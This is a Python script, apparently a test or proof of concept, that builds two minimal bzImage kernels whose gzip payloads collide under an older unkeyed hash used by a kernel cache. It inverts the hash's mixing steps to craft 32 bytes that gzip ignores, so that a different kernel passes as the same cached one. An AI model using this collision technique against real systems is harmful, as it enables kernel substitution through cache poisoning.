"""Makes two small bzImages whose payloads have the same sum in the hash that the kernel cache used before it had a
secret: four lanes of 64 bits, in which each step can be reversed. 32 bytes that gzip ignores are chosen for this."""
import gzip
import struct

MASK, FACTOR, START, SHIFT, ROW = (1 << 64) - 1, 0x9E3779B97F4A7C15, 0xC2B2AE3D27D4EB4F, 29, 32
SIZE = 8192  # of each kernel, unpacked


def mix(lane, word):
    lane = (lane ^ word) * FACTOR & MASK
    return lane ^ lane >> SHIFT


def unmix(lane):
    """The sum of a lane and a word before a step."""
    shifted = lane
    for _ in range(3):
        shifted = lane ^ shifted >> SHIFT
    return shifted * pow(FACTOR, -1, 1 << 64) & MASK


def lanes(data):
    state = [START + i & MASK for i in range(4)]
    for at in range(0, len(data) // ROW * ROW, ROW):
        state = [mix(*pair) for pair in zip(state, struct.unpack_from("<4Q", data, at))]
    return state


def vmlinux(text):
    """A kernel that prints a text by hypercalls, and ends."""
    code = b"\x66\xba\x00\x05" + b"".join(b"\xb3%c\xb0\x01\xee" % c for c in text) + b"\xb0\x00\xee\xf4"
    header = struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\x02\x01\x01", 2, 62, 1, 0x1000000, 64, 0,
                         0, 64, 56, 1, 64, 0, 0)
    segment = struct.pack("<IIQQQQQQ", 1, 5, 4096, 0xFFFFFFFF81000000, 0x1000000, len(code), len(code), 4096)
    return ((header + segment).ljust(4096, b"\0") + code).ljust(SIZE, b"\0")


def bzimage(payload):
    code = bytes(0x400) + payload
    code = code.ljust((len(code) + 31) // 16 * 16, b"\0")
    setup = bytearray(1024)
    for at, form, value in [(0x1F1, "B", 1), (0x1F4, "I", len(code) // 16), (0x1FE, "H", 0xAA55), (0x200, "H", 0x66EB),
                            (0x202, "4s", b"HdrS"), (0x206, "H", 0x20C), (0x211, "B", 1), (0x22C, "I", 0x7FFFFFFF),
                            (0x236, "H", 1), (0x238, "I", 2047), (0x248, "I", 0x400), (0x24C, "I", len(payload)),
                            (0x258, "Q", 0x1000000), (0x260, "I", 0x200000)]:
        struct.pack_into("<" + form, setup, at, value)
    return bytes(setup) + code


def make(good_text, bad_text):
    """The bytes of a kernel, and of another whose payload has the same sum."""
    good = gzip.compress(vmlinux(good_text), compresslevel=0, mtime=0)
    rows = len(good) // ROW
    head = gzip.compress(vmlinux(bad_text), mtime=0).ljust((rows - 1) * ROW, b"\0")
    row = [unmix(goal) ^ lane for goal, lane in zip(lanes(good), lanes(head))]
    bad = head + struct.pack("<4Q", *row) + good[rows * ROW:]
    assert lanes(bad) == lanes(good) and len(bad) == len(good) and bad != good
    return bzimage(good), bzimage(bad)
